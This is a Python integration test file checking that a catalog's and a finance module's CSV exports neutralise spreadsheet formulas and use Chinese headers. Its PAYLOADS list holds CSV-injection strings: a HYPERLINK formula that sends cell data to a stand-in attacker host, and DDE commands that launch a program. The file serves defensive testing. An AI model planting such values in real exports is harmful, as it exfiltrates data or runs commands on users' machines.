"""Formula-safe CSV everywhere (issue 10.8) and a finance export people can read (issue 9.14): every
export neutralises =HYPERLINK(...), +cmd|..., @SUM(...); its content type names its charset once;
the finance CSV's headers and codes read in Chinese."""

from __future__ import annotations

import csv
import io
import re

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from listings import catalog
from market.demo import DEMO_PASSWORD
from tests.integration.helpers import account, login, purchase_body

PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"查看")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
CJK = re.compile(r"[\u4e00-\u9fff]")


def _rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


async def test_catalog_export_neutralises_formulas_and_round_trips(
    client: httpx.AsyncClient, factory: async_sessionmaker[AsyncSession]
) -> None:
    admin = await account(client, factory, "admin", "csv_ops")
    fields = list(catalog.FIELDS)
    lines = []
    for n, payload in enumerate(PAYLOADS, start=1):
        row = {
            "code": f"ZJ-F-0{n}",
            "name": payload,
            "category": "评估",
            "department": payload,
            "legal_basis": "《行政许可法》",
            "approval": "无",
            "time_limit_days": "20",
            "fee_type": "market_regulated",
            "fee_standard": "市场调节",
            "status": "retained",
            "effective_date": "2026-01-01",
        }
        lines.append([row.get(f, "") for f in fields])
    out = io.StringIO()
    csv.writer(out).writerows([fields, *lines])
    r = await client.post(
        "/api/v1/catalog/import", headers={**admin, "content-type": "text/csv"}, content=out.getvalue().encode()
    )
    assert r.status_code == 200 and r.json()["created"] == 3, r.text

    rows = _rows(await client.get("/api/v1/catalog/export.csv"))
    assert _formula_cells(rows) == []
    names = [row[fields.index("name")] for row in rows[1:]]
    assert sorted(names) == sorted("'" + p for p in PAYLOADS)

    # the export read back changes nothing: the import takes the guard off again
    r = await client.post(
        "/api/v1/catalog/import",
        headers={**admin, "content-type": "text/csv"},
        content=(await client.get("/api/v1/catalog/export.csv")).content,
    )
    assert r.status_code == 200 and r.json()["updated"] == 0 and r.json()["unchanged"] == 3, r.text
    assert (await client.get("/api/v1/catalog/ZJ-F-01")).json()["name"] == PAYLOADS[0]


@pytest.mark.demo
async def test_finance_export_neutralises_formulas_and_reads_in_chinese(
    client: httpx.AsyncClient, factory: async_sessionmaker[AsyncSession]
) -> None:
    owner = await login(client, "owner01", DEMO_PASSWORD)
    code = (await client.get("/api/v1/catalog?status=retained")).json()["items"][0]["code"]
    for payload in PAYLOADS:
        r = await client.post("/api/v1/purchases", json=purchase_body(code, title=payload), headers=owner)
        assert r.status_code == 201, r.text
        r = await client.post(f"/api/v1/purchases/{r.json()['id']}/publish", headers=owner)
        assert r.status_code == 200, r.text
    finance = await login(client, "finance", DEMO_PASSWORD)

    rows = _rows(await client.get("/api/v1/finance/export.csv", headers=finance))
    assert _formula_cells(rows) == []
    header, body = rows[0], rows[1:]
    titles = {row[header.index("项目名称")] for row in body}
    assert {"'" + p for p in PAYLOADS} <= titles, titles

    # every header and every label column reads in Chinese; the codes stay, in their own column
    assert all(CJK.search(h) for h in header), header
    for name in ("选取方式", "资金来源", "状态", "合同状态", "风险预警"):
        values = {row[header.index(name)] for row in body} - {""}
        assert values and all(CJK.search(v) for v in values), (name, values)
    assert any(re.fullmatch(r"[a-z_ ]+", row[header.index("预警代码")]) for row in body)

    english = _rows(await client.get("/api/v1/finance/export.csv?lang=en", headers=finance))
    assert _formula_cells(english) == [] and not any(CJK.search(h) for h in english[0])
